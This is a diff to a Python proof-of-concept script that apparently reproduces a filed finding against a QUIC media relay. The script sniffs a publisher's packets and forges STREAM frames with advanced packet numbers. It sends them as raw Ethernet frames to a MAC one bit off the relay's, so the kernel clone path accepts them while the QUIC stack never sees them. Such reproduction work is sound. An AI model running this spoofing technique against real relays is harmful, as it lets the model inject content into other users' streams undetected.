@@ -7,11 +7,15 @@ Run in the publisher's namespace while it sends. Watches IFACE for the
 publisher's next plaintext-profile 1-RTT packet to RELAY_IP:RELAY_PORT that
 starts with a STREAM frame of a client uni stream at an offset > 0 (a live
 subgroup stream), then sends, from the publisher's address and port, one
-copy per OFFSET: same DCID and packet number, one STREAM frame of 16 bytes
-at OFFSET on the same stream, the plaintext tag. The relay's QUIC stack
-drops each copy (its packet number is a duplicate); the kernel sees a media
-packet and clones it. Prints "spoofed sid=S pn=P offsets=..." and exits 0,
-or exits 1 when no such packet came within 10 s.
+copy per OFFSET: same DCID, packet number PN_AHEAD + i past the seen one
+(new: the kernel clones only numbers it has not seen, issue 17 finding
+2a), one STREAM frame of 16 bytes at OFFSET on the same stream, the
+plaintext tag; as an Ethernet frame to a MAC one bit off the relay's. The
+relay's tc ingress program sees and clones it (it does not look at the
+MAC); the relay's IP stack then drops it as not for this host, so its QUIC
+stack, which would accept the fresh number and close the publisher's
+connection for the offset, never sees it. Prints "spoofed sid=S pn=P+N
+offsets=..." and exits 0, or exits 1 when no such packet came within 10 s.
 """
 import socket
 import struct
@@ -21,6 +25,10 @@ import time
 TAG = b"moq-plaintext-v1"
 ETH_P_ALL = 3
 PACKET_OUTGOING = 4
+# ahead of the publisher's own number (its packets with these numbers come
+# later; the kernel leaves those to the agent), well inside the kernel's
+# window of 225-256 numbers
+PN_AHEAD = 64
 
 
 def qv(b, pos):
@@ -64,7 +72,7 @@ def live_stream_packet(frame, relay_ip, relay_port):
     off, _ = qv(pay, 18)
     if sid & 3 != 2 or off == 0:
         return None
-    return socket.inet_ntoa(ip[12:16]), sport, pay, sid
+    return frame, pay, sid
 
 
 def main():
@@ -87,20 +95,27 @@ def main():
     else:
         print("no live stream packet of the publisher seen", file=sys.stderr)
         return 1
-    src, sport, pay, sid = m
-    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
-    raw.bind((src, 0))
-    for off in offsets:
-        q = pay[:13] + bytes([0x0E]) + pay[14:18] + qv8(off) + struct.pack(">H", 0x4000 | 16)
-        q += b"\x5a" * 16 + TAG
+    frame, pay, sid = m
+    ihl = (frame[14] & 15) * 4
+    sport = struct.unpack(">H", frame[14 + ihl:16 + ihl])[0]
+    # one bit off the relay's MAC, still unicast: PACKET_OTHERHOST there
+    dst = frame[:5] + bytes([frame[5] ^ 0x02])
+    pn = struct.unpack(">I", pay[9:13])[0]
+    for i, off in enumerate(offsets):
+        q = pay[:9] + struct.pack(">I", (pn + PN_AHEAD + i) & 0xFFFFFFFF) + bytes([0x0E])
+        q += pay[14:18] + qv8(off) + struct.pack(">H", 0x4000 | 16) + b"\x5a" * 16 + TAG
         udp = struct.pack(">HHHH", sport, relay_port, 8 + len(q), 0) + q
-        pseudo = socket.inet_aton(src) + socket.inet_aton(relay_ip)
-        pseudo += struct.pack(">BBH", 0, 17, len(udp))
+        pseudo = frame[26:30] + frame[30:34] + struct.pack(">BBH", 0, 17, len(udp))
         c = csum(pseudo + udp) or 0xFFFF
         udp = udp[:6] + struct.pack(">H", c) + udp[8:]
-        raw.sendto(udp, (relay_ip, 0))
-    pn = struct.unpack(">I", pay[9:13])[0]
-    print("spoofed sid=%d pn=%d offsets=%s" % (sid, pn, ",".join(map(str, offsets))), flush=True)
+        ip = bytearray(frame[14:34])
+        ip[0] = 0x45
+        ip[2:4] = struct.pack(">H", 20 + len(udp))
+        ip[10:12] = b"\0\0"
+        ip[10:12] = struct.pack(">H", csum(bytes(ip)))
+        sniff.send(dst + frame[6:14] + bytes(ip) + udp)
+    print("spoofed sid=%d pn=%d+%d offsets=%s" % (sid, pn, PN_AHEAD, ",".join(map(str, offsets))),
+          flush=True)
     return 0
 
 
